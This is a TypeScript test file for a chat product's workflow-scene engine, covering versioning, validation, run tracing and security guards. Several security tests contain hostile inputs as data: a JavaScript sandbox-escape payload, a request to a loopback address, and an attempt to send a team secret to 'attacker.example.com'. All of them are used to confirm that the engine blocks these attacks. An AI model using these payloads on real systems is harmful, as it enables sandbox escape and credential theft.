import { describe, expect, it, vi } from 'vitest';
import type { ChatStreamEvent, Scene, SceneGraphInput, SceneRun } from '@miaoyu/contracts';
import { CHAT_TEST_ENV, chatUsers, useLlmStub, type ChatUser } from '../../../test/chat';
import { DATABASE_KINDS } from '../../../test/databases';
import { useTestApp } from '../../../test/harness';
import { scenesOf } from '../../../test/scenes';
import { deltaText, parseSse } from '../../../test/sse';
import { eq } from 'drizzle-orm';
import { sceneRuns } from '../../db/schema';
import { sweepOrphanedRuns } from './sweeps';

describe.each(DATABASE_KINDS)('business scenes on %s', (kind) => {
  const env: Record<string, string> = { ...CHAT_TEST_ENV };
  useLlmStub(env, ['stub-model'], { chunks: 3, delayMs: 0 });
  const t = useTestApp(kind, env);
  const user = chatUsers(t);

  async function team(n: number) {
    const owner = await user(`1390037${n}001`);
    const orgId: string = (await owner.post('/v1/orgs', { name: `场景团队${n}` })).json().id;
    return { owner, orgId, scenes: scenesOf(t, owner, orgId) };
  }

  async function test(who: ChatUser, orgId: string, sceneId: string, body: object) {
    const res = await scenesOf(t, who, orgId).test(sceneId, { conversation: 'c1', ...body });
    expect(res.statusCode, res.body).toBe(200);
    const { events } = parseSse(res.body);
    const ask = events.find((e) => e.event === 'scene-ask') as
      Extract<ChatStreamEvent, { event: 'scene-ask' }> | undefined;
    return { events, text: deltaText(events), ask, end: events.at(-1)! };
  }

  const trace = async (who: ChatUser, orgId: string, sceneId: string, runId: string) => {
    const res = await who.get(`/v1/orgs/${orgId}/scenes/${sceneId}/runs/${runId}`);
    expect(res.statusCode, res.body).toBe(200);
    return res.json() as SceneRun;
  };

  it('saves drafts over the version they were edited from, and publishes immutable versions', async () => {
    const { owner, orgId, scenes } = await team(1);
    const scene = await scenes.create('留资', 'lead');
    expect(scene).toMatchObject({ draftVersion: 1, publishedVersion: null, canEdit: true });
    expect(scene.graph.nodes.map((n) => n.type)).toContain('ask');

    const edited = structuredClone(scene.graph);
    edited.nodes.find((n) => n.id === 'thanks')!.title = '致谢';
    const saved = await scenes.saveDraft(scene.id, edited, scene.draftVersion);
    expect(saved.statusCode, saved.body).toBe(200);
    expect(saved.json().draftVersion).toBe(2);

    // A colleague's tab still on version 1 cannot overwrite version 2.
    const stale = await scenes.saveDraft(scene.id, scene.graph, 1);
    expect(stale.statusCode).toBe(409);
    expect(stale.json()).toMatchObject({ code: 'SCENE_STALE' });
    expect(stale.headers.etag).toBe('"2"');
    const missing = await scenes.saveDraft(scene.id, edited);
    expect(missing.statusCode).toBe(428);
    const now = (await owner.get(`/v1/orgs/${orgId}/scenes/${scene.id}`)).json() as Scene;
    expect(now.graph.nodes.find((n) => n.id === 'thanks')!.title).toBe('致谢');

    const stalePublish = await scenes.publish(scene.id, 1);
    expect(stalePublish.statusCode).toBe(409);
    const published = await scenes.publish(scene.id, 2, { note: '第一版' });
    expect(published.statusCode, published.body).toBe(200);
    expect(published.json().version).toBe(1);

    const changed = structuredClone(edited);
    changed.nodes.find((n) => n.id === 'thanks')!.title = '再改';
    expect((await scenes.saveDraft(scene.id, changed, 2)).statusCode).toBe(200);
    const listed = (
      await owner.get(`/v1/orgs/${orgId}/scenes?keyword=${encodeURIComponent('留')}`)
    ).json();
    expect(listed.list[0]).toMatchObject({
      publishedVersion: 1,
      unpublishedChanges: true,
      draftVersion: 3,
    });

    const v1 = (await owner.get(`/v1/orgs/${orgId}/scenes/${scene.id}/versions/1`)).json();
    expect(v1.graph.nodes.find((n: { id: string }) => n.id === 'thanks').title).toBe('致谢');
    const versions = (await owner.get(`/v1/orgs/${orgId}/scenes/${scene.id}/versions`)).json();
    expect(versions.list).toMatchObject([{ n: 1, note: '第一版' }]);
    const restored = await t.app.inject({
      method: 'POST',
      url: `${scenes.url(scene.id)}/versions/1/restore`,
      headers: { ...owner.headers, 'if-match': '"3"' },
      payload: {},
    });
    expect(restored.json().draftVersion).toBe(4);
    expect(
      ((await owner.get(`/v1/orgs/${orgId}/scenes/${scene.id}`)).json() as Scene).graph,
    ).toEqual(v1.graph);

    // Members read the team's scenes; only the author and admins change them; other teams see nothing.
    const invite = await owner.post(`/v1/orgs/${orgId}/invites`, {
      role: 'member',
      expiresInHours: 24,
      maxUses: 1,
    });
    const colleague = await user('13900371002');
    await colleague.post(`/v1/invites/${invite.json().code}/accept`);
    expect(
      ((await colleague.get(`/v1/orgs/${orgId}/scenes/${scene.id}`)).json() as Scene).canEdit,
    ).toBe(false);
    const refused = await scenesOf(t, colleague, orgId).saveDraft(scene.id, edited, 4);
    expect(refused.statusCode).toBe(403);
    expect(refused.json().code).toBe('SCENE_NOT_YOURS');
    const stranger = await user('13900371003');
    expect((await stranger.get(`/v1/orgs/${orgId}/scenes/${scene.id}`)).statusCode).toBe(404);
  });

  it('refuses a graph that breaks a rule, naming each place', async () => {
    const { owner, orgId, scenes } = await team(2);
    const scene = await scenes.create('留资', 'blank');
    const problems = async (graph: SceneGraphInput) => {
      const res = await scenes.saveDraft(scene.id, graph, scene.draftVersion);
      expect(res.statusCode, res.body).toBe(422);
      return res.json() as { code: string; detail: { loc: string[]; msg: string }[] };
    };
    const start = { id: 'start', type: 'start', settings: {} } as const;
    const say = (id: string, text = 'hi') => ({ id, type: 'answer' as const, settings: { text } });
    const edge = (source: string, target: string, sourceHandle = 'out') => ({
      id: `${source}-${target}-${sourceHandle}`,
      source,
      target,
      sourceHandle,
    });

    const cycle = await problems({
      nodes: [start, say('a'), say('b')],
      edges: [edge('start', 'a'), edge('a', 'b'), edge('b', 'a')],
    });
    expect(cycle.code).toBe('SCENE_INVALID');
    expect(cycle.detail.find((d) => /环/.test(d.msg))?.loc.slice(0, 2)).toEqual(['graph', 'nodes']);

    const unreachable = await problems({
      nodes: [start, say('a'), say('lost')],
      edges: [edge('start', 'a')],
    });
    expect(unreachable.detail).toEqual([
      { loc: ['graph', 'nodes', 'lost'], msg: '这个节点从开始节点无法到达' },
    ]);

    const noStart = await problems({ nodes: [say('a')], edges: [] });
    expect(noStart.detail.map((d) => d.msg)).toContain('场景需要一个开始节点');
    const noAnswer = await problems({
      nodes: [start, { id: 't', type: 'template', settings: { template: 'x' } }],
      edges: [edge('start', 't')],
    });
    expect(noAnswer.detail[0]!.msg).toMatch(/回复节点/);

    const deletedRef = await problems({
      nodes: [start, say('a', '{{ gone.text }}')],
      edges: [edge('start', 'a')],
    });
    expect(deletedRef.detail).toEqual([
      { loc: ['graph', 'nodes', 'a', 'settings', 'text'], msg: '引用的变量 gone.text 不存在' },
    ]);
    const wrongType = await problems({
      nodes: [
        start,
        {
          id: 'check',
          type: 'ifelse',
          settings: {
            cases: [
              {
                id: 'big',
                conditions: [
                  { left: 'start.question', op: 'gt', right: { kind: 'value', value: 3 } },
                ],
              },
            ],
          },
        },
        say('a'),
      ],
      edges: [edge('start', 'check'), edge('check', 'a', 'big'), edge('check', 'a', 'else')],
    });
    expect(wrongType.detail[0]!.loc).toEqual([
      'graph',
      'nodes',
      'check',
      'settings',
      'cases',
      '0',
      'conditions',
      '0',
      'left',
    ]);

    const wrongHandle = await problems({
      nodes: [start, say('a')],
      edges: [edge('start', 'a', 'yes')],
    });
    expect(wrongHandle.detail[0]!.loc).toEqual(['graph', 'edges', 'start-a-yes']);

    const huge = await scenes.saveDraft(
      scene.id,
      {
        nodes: [start, ...Array.from({ length: 10_000 }, (_, i) => say(`n${i}`))],
        edges: Array.from({ length: 10_000 }, (_, i) => edge('start', `n${i}`)),
      },
      scene.draftVersion,
    );
    expect([413, 422]).toContain(huge.statusCode);

    const selfCall = await problems({
      nodes: [start, { id: 'again', type: 'subscene', settings: { sceneId: scene.id } }],
      edges: [edge('start', 'again')],
    });
    expect(selfCall.detail[0]!.loc).toEqual(['graph', 'nodes', 'again', 'settings', 'sceneId']);

    // Nothing was half-written.
    expect(
      ((await owner.get(`/v1/orgs/${orgId}/scenes/${scene.id}`)).json() as Scene).draftVersion,
    ).toBe(1);
  });

  it('test-runs the lead capture: asks, pauses, goes on with the answer, and traces every node', async () => {
    const { owner, orgId, scenes } = await team(3);
    const scene = await scenes.create('留资', 'lead');

    const vague = await test(owner, orgId, scene.id, {
      question: '你们的净水器怎么卖？',
      conversation: 'vague',
    });
    expect(vague.text).toMatch(/称呼和手机号/);
    expect(vague.end.event).toBe('done');

    const first = await test(owner, orgId, scene.id, {
      question: '我叫王磊，手机 13800138000，想了解净水器',
    });
    expect(first.ask?.data).toMatchObject({
      mode: 'buttons',
      options: [{ id: 'ok' }, { id: 'change' }],
    });
    expect(first.text).toContain('王磊');
    expect(first.text).toContain('13800138000');
    const lit = first.events
      .filter((e) => e.event === 'scene-node')
      .map((e) => `${e.data.nodeId}:${e.data.status}`);
    expect(lit).toEqual(expect.arrayContaining(['lead:done', 'has_all:done', 'confirm:waiting']));
    // What follows the question is decided by its answer: not run, not skipped, yet.
    expect(lit.filter((l) => l.startsWith('ask_lead') || l.startsWith('store'))).toEqual([]);
    const runId = first.ask!.data.runId;
    expect((await trace(owner, orgId, scene.id, runId)).status).toBe('waiting');

    const second = await test(owner, orgId, scene.id, { reply: 'ok' });
    expect(second.text).toBe('谢谢王磊！我们会尽快通过 13800138000 联系您。');
    const run = await trace(owner, orgId, scene.id, runId);
    expect(run.status).toBe('done');
    const byNode = Object.fromEntries(run.nodes.map((n) => [n.nodeId, n]));
    expect(Object.keys(byNode).sort()).toEqual([
      'ask_lead',
      'confirm',
      'has_all',
      'lead',
      'start',
      'store',
      'thanks',
    ]);
    expect(byNode.lead!.outputs).toMatchObject({
      name: '王磊',
      phone: '13800138000',
      complete: true,
    });
    expect(byNode.confirm).toMatchObject({ status: 'done', handles: ['ok'] });
    expect(byNode.ask_lead!.status).toBe('skipped');
    expect(byNode.lead!.promptTokens).toBeGreaterThan(0);
    const runs = (await owner.get(`/v1/orgs/${orgId}/scenes/${scene.id}/runs`)).json();
    expect(runs.list.map((r: { status: string }) => r.status)).toEqual(['done', 'done']);
  });

  it('runs code sandboxed and refuses requests to private addresses, each failure on its own branch', async () => {
    const { owner, orgId, scenes } = await team(4);
    const scene = await scenes.create('留资', 'blank');
    const graph: SceneGraphInput = {
      nodes: [
        { id: 'start', type: 'start', settings: {} },
        {
          id: 'calc',
          type: 'code',
          settings: {
            code: 'function main(input) { return { total: input.n * 3, host: typeof process } }',
            inputs: [{ name: 'n', from: 'start.question' }],
            outputs: [
              { name: 'total', type: 'number' },
              { name: 'host', type: 'string' },
            ],
          },
        },
        {
          id: 'escape',
          type: 'code',
          onError: { mode: 'branch' },
          settings: {
            code: "function main() { return { p: this.constructor.constructor('return process')().pid } }",
            outputs: [{ name: 'p', type: 'any' }],
          },
        },
        {
          id: 'fetch',
          type: 'http',
          onError: { mode: 'branch' },
          settings: { url: 'http://127.0.0.1:8089/price', timeoutMs: 2_000 },
        },
        {
          id: 'ok',
          type: 'answer',
          settings: { text: '合计 {{ calc.total }}，{{ calc.host }}。' },
        },
        { id: 'contained', type: 'answer', settings: { text: '代码被拦下：{{ escape.error }}。' } },
        { id: 'refused', type: 'answer', settings: { text: '请求被拒：{{ fetch.error }}' } },
      ],
      edges: [
        { id: 'a', source: 'start', target: 'calc' },
        { id: 'b', source: 'calc', target: 'escape' },
        { id: 'c', source: 'escape', target: 'fetch', sourceHandle: 'out' },
        { id: 'd', source: 'escape', target: 'contained', sourceHandle: 'error' },
        { id: 'e', source: 'calc', target: 'ok' },
        { id: 'f', source: 'fetch', target: 'refused', sourceHandle: 'error' },
      ],
    };
    const saved = await scenes.saveDraft(scene.id, graph, scene.draftVersion);
    expect(saved.statusCode, saved.body).toBe(200);
    const run = await test(owner, orgId, scene.id, { question: '14' });
    expect(run.text).toContain('合计 42，undefined。');
    expect(run.text).toMatch(/代码被拦下：代码节点出错/);
    expect(run.end.event).toBe('done');
    const started = run.events.find((e) => e.event === 'scene-node')!;
    const traced = await trace(owner, orgId, scene.id, (started.data as { runId: string }).runId);
    const byNode = Object.fromEntries(traced.nodes.map((n) => [n.nodeId, n]));
    expect(byNode.escape).toMatchObject({ status: 'done', handles: ['error'] });
    expect(byNode.fetch!.status).toBe('skipped');

    // Straight to a private address: refused by the guard, not connected to.
    const direct = structuredClone(graph);
    direct.edges = [
      { id: 'a', source: 'start', target: 'fetch' },
      { id: 'f', source: 'fetch', target: 'refused', sourceHandle: 'error' },
    ];
    direct.nodes = direct.nodes.filter((n) => ['start', 'fetch', 'refused'].includes(n.id));
    expect((await scenes.saveDraft(scene.id, direct, 2)).statusCode).toBe(200);
    const refused = await test(owner, orgId, scene.id, { question: 'x', conversation: 'c2' });
    expect(refused.text).toMatch(/请求被拒：HTTP 请求失败：address not allowed/);
  });

  it('ends a run whose instance died as failed, keeping its journal', async () => {
    const { owner, orgId, scenes } = await team(5);
    const scene = await scenes.create('留资', 'lead');
    const asked = await test(owner, orgId, scene.id, { question: '我叫李娜，13900001111' });
    const runId = asked.ask!.data.runId;
    // As a process killed mid-run leaves it: running, owned by an instance that no longer beats.
    await t.app.db
      .update(sceneRuns)
      .set({ status: 'running', instanceId: 'gone-1' })
      .where(eq(sceneRuns.id, BigInt(runId)));
    // The sweep is a job, asked for at every beat: asked for now instead of waiting for one.
    await sweepOrphanedRuns(t.app);
    const run = await vi.waitFor(
      async () => {
        const traced = await trace(owner, orgId, scene.id, runId);
        expect(traced.status).toBe('failed');
        return traced;
      },
      { timeout: 10_000, interval: 100 },
    );
    expect(run.error).toMatch(/interrupted/);
    expect(run.nodes.find((n) => n.nodeId === 'lead')).toMatchObject({ status: 'done' });
    expect(run.endedAt).not.toBeNull();
    // The conversation starts afresh rather than going on with a dead run.
    const again = await test(owner, orgId, scene.id, { question: '我叫李娜，13900001111' });
    expect(again.ask!.data.runId).not.toBe(runId);
  });

  it("keeps the team's secrets to its managers, sent only to an address written out", async () => {
    const { owner, orgId, scenes } = await team(6);
    expect(
      (await owner.put(`/v1/orgs/${orgId}/scene-secrets/CRM_KEY`, { value: 'sk-crm-secret' }))
        .statusCode,
    ).toBe(200);
    const invite = await owner.post(`/v1/orgs/${orgId}/invites`, {
      role: 'member',
      expiresInHours: 24,
      maxUses: 1,
    });
    const member = await user('13900371062');
    await member.post(`/v1/invites/${invite.json().code}/accept`);
    const memberScenes = scenesOf(t, member, orgId);
    const scene = await memberScenes.create('留资', 'blank');
    const leak = (url: string): SceneGraphInput => ({
      nodes: [
        { id: 'start', type: 'start', settings: {} },
        {
          id: 'call',
          type: 'http',
          settings: { url, headers: [{ name: 'x-key', value: '{{ secret.CRM_KEY }}' }] },
        },
        { id: 'say', type: 'answer', settings: { text: '{{ call.body }}' } },
      ],
      edges: [
        { id: 'a', source: 'start', target: 'call' },
        { id: 'b', source: 'call', target: 'say' },
      ],
    });
    // A member cannot put the team's secret in a scene of their own (they would send it home).
    const refused = await memberScenes.saveDraft(
      scene.id,
      leak('https://echo.example.com/'),
      scene.draftVersion,
    );
    expect(refused.statusCode).toBe(403);
    expect(refused.json().code).toBe('SCENE_SECRETS_NEED_MANAGER');
    // A manager can, but only to an address written out: a value may not choose where it goes.
    const own = await scenes.create('留资', 'blank');
    const saved = await scenes.saveDraft(
      own.id,
      leak('https://{{ start.question }}/crm'),
      own.draftVersion,
    );
    expect(saved.statusCode, saved.body).toBe(200);
    const run = await test(owner, orgId, own.id, { question: 'attacker.example.com' });
    expect(run.end.event).toBe('error');
    expect(JSON.stringify(run.end.data)).toMatch(/written out in full/);
    expect(JSON.stringify(run.events)).not.toContain('sk-crm-secret');
    const names = (await owner.get(`/v1/orgs/${orgId}/scene-secrets`)).json();
    expect(names).toMatchObject({ list: [{ name: 'CRM_KEY' }] });
    expect(JSON.stringify(names)).not.toContain('sk-crm-secret');
  });
});
